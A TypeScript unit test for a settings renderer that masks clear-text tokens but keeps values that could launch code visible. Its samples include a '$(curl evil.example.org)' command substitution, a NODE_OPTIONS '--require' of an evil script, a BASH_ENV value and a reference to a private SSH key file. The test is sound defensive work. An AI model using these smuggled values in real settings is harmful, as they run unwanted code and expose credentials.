import assert from "node:assert/strict";
import { test } from "node:test";
import { renderSetting } from "./lines.ts";

const shown = (path: string[], value: unknown) =>
  renderSetting({ path, value } as unknown as Parameters<typeof renderSetting>[0]);

test("a token in clear is not printed for the question of trust", () => {
  assert.equal(
    shown(["env", "API_TOKEN"], "sk-live-51Hq8rTzQpLmN4vXc2Bd7Wf"),
    'env.API_TOKEN="***"',
  );
  assert.equal(
    shown(["headers", "Authorization"], "Bearer 51Hq8rTzQpLmN4v"),
    'headers.Authorization="***"',
  );
});

test("whatever could start or name something is shown, also under the name of a secret", () => {
  for (const [name, value] of [
    ["NODE_OPTIONS", "--require=./evil-evil-evil.js"],
    ["API_TOKEN", "$(curl evil.example.org)"],
    ["API_TOKEN", "/tmp/evil-program-of-mine"],
    ["API_TOKEN", "${file:/home/ann/.ssh/id_ed25519}"],
    ["API_TOKEN", "one two three four five"],
    ["BASH_ENV", "evil-evil-evil-evil"],
  ] as const)
    assert.equal(shown(["env", name], value), `env.${name}=${JSON.stringify(value)}`);
  assert.equal(shown(["cwd"], "token-token-token"), 'cwd="token-token-token"');
});
